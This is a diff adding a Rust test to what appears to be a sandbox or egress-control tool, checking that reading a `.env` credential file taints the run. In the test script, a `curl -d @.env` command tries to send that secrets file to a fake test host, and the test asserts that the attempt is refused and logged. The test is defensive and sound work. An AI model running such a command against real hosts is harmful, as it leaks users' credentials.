@@ -440,3 +440,34 @@ fn a_weak_run_leaves_the_command_its_open_file_limit() {
     assert_ne!(guard[0], "256", "{}", lines[2]);
     assert_eq!(guard[0], guard[1], "guard's soft limit not raised: {}", lines[2]);
 }
+
+#[test]
+fn a_credential_read_inside_the_run_still_taints() {
+    // The run's mount namespace has its own copies of the host's mounts;
+    // the credential watch marks whole file systems, so a read of `.env`
+    // in the working folder still taints the reader inside the run.
+    let Some(net) = FakeInternet::start() else { return };
+    let config = net.config();
+    let mut text = std::fs::read_to_string(&config).unwrap();
+    text.push_str("[context]\ncredential_paths = [\"**/.env\"]\ntaint_window_ms = 30000\n");
+    std::fs::write(&config, text).unwrap();
+    std::fs::write(net.work.join(".env"), "TOKEN=secret\n").unwrap();
+    let log = net.dir.path().join("audit.jsonl");
+    let ca = net.ca.display();
+    let script = format!(
+        "echo \"BEFORE=$(curl -sS -m 10 --cacert {ca} https://allowed.test/)\"; \
+         curl -sS -m 10 --cacert {ca} -d @.env https://allowed.test/ >/dev/null 2>&1 && echo AFTER=reached || echo AFTER=refused"
+    );
+    let out = run(&config, &log, &script);
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        stdout.contains("BEFORE=hello from the allowed upstream"),
+        "{stdout}{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(stdout.contains("AFTER=refused"), "{stdout}");
+    let tainted = support::read_entries(&log)
+        .into_iter()
+        .any(|e| e["decision"] == "deny" && e["reason"].as_str().unwrap_or("").contains(".env"));
+    assert!(tainted, "no taint refusal in the log");
+}
